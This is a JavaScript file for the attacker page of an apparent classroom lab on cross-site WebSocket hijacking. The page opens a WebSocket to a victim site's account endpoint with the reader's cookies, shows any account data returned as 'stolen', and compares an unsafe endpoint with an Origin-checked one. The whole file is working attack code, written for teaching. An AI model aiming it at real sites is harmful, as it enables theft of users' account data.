// The attacker page (demo). It plays "another site": it opens a WebSocket to
// the victim's account endpoint with the reader's cookies and shows what the
// server handed over. Served by demo-server/attacker/listener.ts on its own
// port; everything it shows goes through textContent.

/** @param {string} name */
function meta(name) {
  return document.querySelector(`meta[name="${name}"]`)?.getAttribute('content') ?? '';
}

/** @param {string} id */
function element(id) {
  const found = document.getElementById(id);
  if (found === null) throw new Error(`attacker page: #${id} is missing`);
  return found;
}

const originView = element('attacker-origin');
const urlView = element('attacker-url');
const statusView = element('attacker-status');
const seenView = element('attacker-seen');
const stolenView = element('attacker-stolen');

const TARGETS = ['unsafe', 'safe'];

/** @param {string} hostname */
function isLoopback(hostname) {
  return hostname === 'localhost' || hostname === '[::1]' || /^127\.\d+\.\d+\.\d+$/.test(hostname);
}

/**
 * The site to attack: the same machine's site port, named `localhost` (where
 * the reader logged in) when this page was reached by a loopback name, else
 * by the name this page was reached by (a classroom LAN address).
 */
function defaultVictim() {
  const host = isLoopback(location.hostname) ? 'localhost' : location.hostname;
  return `${meta('socketbook-victim-scheme')}//${host}:${meta('socketbook-victim-port')}`;
}

/** @param {string} text @returns {string | null} the http(s) origin `text` names */
function originOf(text) {
  if (!URL.canParse(text)) return null;
  const url = new URL(text);
  return url.protocol === 'http:' || url.protocol === 'https:' ? url.origin : null;
}

const params = new URLSearchParams(location.search);
const target = params.get('target') ?? 'unsafe';
const victimText = params.get('victim') ?? defaultVictim();
const victim = originOf(victimText);

/**
 * @typedef {'stolen' | 'anonymous' | 'refused' | 'closed' | 'invalid'} Outcome
 * @type {{ outcome: Outcome | null, account: unknown, serverSawOrigin: string | null, cookies: string[], closeCode: number | null }}
 */
const result = { outcome: null, account: null, serverSawOrigin: null, cookies: [], closeCode: null };

/** Tells the lab that opened or framed this page what happened (only the victim's origin may read it). */
function report() {
  const receiver = window.opener ?? (window.parent === window ? null : window.parent);
  if (receiver === null || victim === null) return;
  receiver.postMessage({ source: 'socketbook-attacker', target, origin: location.origin, ...result }, victim);
}

/** @param {string} text */
function showStatus(text) {
  statusView.textContent = text;
}

/** @param {unknown} value @returns {string[]} */
function names(value) {
  return Array.isArray(value) ? value.filter((entry) => typeof entry === 'string') : [];
}

/** @param {Record<string, unknown>} message */
function showSeen(message) {
  result.serverSawOrigin = typeof message.origin === 'string' ? message.origin : null;
  result.cookies = names(message.cookies);
  const cookies = result.cookies.length === 0 ? 'none' : result.cookies.join(', ');
  seenView.textContent = `Origin: ${result.serverSawOrigin ?? '(none)'}. Cookies that arrived: ${cookies}.`;
}

/** @param {Record<string, unknown>} message */
function handleMessage(message) {
  if (message.type === 'account') {
    showSeen(message);
    result.outcome = 'stolen';
    result.account = message.account;
    stolenView.textContent = JSON.stringify(message.account, null, 2);
    showStatus(`STOLEN: the server accepted this page's handshake, trusted the cookie the browser attached, and sent the account. It was told Origin ${result.serverSawOrigin ?? '(none)'} and ignored it.`);
  } else if (message.type === 'anonymous') {
    showSeen(message);
    result.outcome = 'anonymous';
    showStatus('Connected, but no session cookie reached the server, so it had no account to send: nothing stolen.');
  } else {
    return;
  }
  report();
}

function attack() {
  originView.textContent = location.origin;
  if (!TARGETS.includes(target)) {
    result.outcome = 'invalid';
    showStatus(`Nothing attacked: target must be unsafe or safe, got ${JSON.stringify(target)}.`);
    report();
    return;
  }
  if (victim === null) {
    result.outcome = 'invalid';
    showStatus(`Nothing attacked: victim must be an http:// or https:// origin, got ${JSON.stringify(victimText)}.`);
    return;
  }
  const url = `${victim.replace(/^http/, 'ws')}/ws/account/${target}`;
  urlView.textContent = url;
  showStatus('Connecting…');
  let opened = false;
  const socket = new WebSocket(url);
  socket.addEventListener('open', () => {
    opened = true;
    showStatus('Connected: the server accepted a handshake from this foreign page. Waiting for what it sends…');
  });
  socket.addEventListener('message', (event) => {
    try {
      const message = JSON.parse(String(event.data));
      if (typeof message === 'object' && message !== null) handleMessage(message);
    } catch {
      showStatus('The server sent something that is not JSON.');
    }
  });
  socket.addEventListener('close', (event) => {
    result.closeCode = event.code;
    const reason = event.reason === '' ? '' : ` "${event.reason}"`;
    if (!opened) {
      result.outcome = 'refused';
      showStatus(`Refused: the handshake failed, so the browser reports close code ${String(event.code)}. A page is never told the HTTP status (a 403 from an Origin check looks the same as a server that is down); the server's log and the lab show it.`);
    } else if (result.outcome === null) {
      result.outcome = 'closed';
      showStatus(`The server closed the connection with ${String(event.code)}${reason} before sending anything.`);
    } else {
      statusView.textContent += ` Then the server closed the connection with ${String(event.code)}${reason}.`;
    }
    report();
  });
}

attack();
